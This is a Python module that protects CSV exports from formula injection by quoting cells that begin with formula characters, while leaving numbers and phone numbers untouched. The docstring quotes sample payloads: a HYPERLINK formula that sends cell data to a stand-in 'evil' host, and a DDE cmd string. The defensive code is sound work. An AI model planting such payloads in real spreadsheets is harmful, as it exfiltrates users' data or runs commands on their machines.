"""Cells for spreadsheets: what acara writes can never run as a formula in Excel.

OWASP's advice for CSV injection: a cell that begins with =, +, -, @, tab or CR is read by
Excel and LibreOffice as a formula (`=HYPERLINK("http://evil/?"&C2,"Klik")`, `+cmd|' /C calc'!A0`,
`@SUM(...)`), so such a cell is written with a leading apostrophe, which makes it text. Numbers
and phone numbers (`+62 812-3456-7890`, `-5`) are left as they are: they read the same to a
person and run nothing.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A number, a phone number or a placeholder dash: nothing a spreadsheet could call.
_PLAIN = re.compile(r"^(?:[+-]?[0-9][0-9 ().\-/]*|-+)$")


def safe_cell(value: Any) -> Any:
    """The value to write into a spreadsheet cell (text that could be a formula is quoted)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    if _PLAIN.match(value):
        return value
    return "'" + value


def unquote_cell(value: Any) -> Any:
    """What `safe_cell` wrote, read back: the apostrophe it added is dropped."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def csv_text(rows: Iterable[Iterable[Any]], *, excel: bool = True) -> str:
    """Rows as CSV with every cell made safe.

    excel=True (the default) writes what Excel in an Indonesian locale opens in columns:
    semicolons (its list separator there) and a UTF-8 byte-order mark (so names keep their
    letters). excel=False writes plain comma-separated UTF-8 for other programs.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";" if excel else ",", lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return ("\ufeff" if excel else "") + buffer.getvalue()
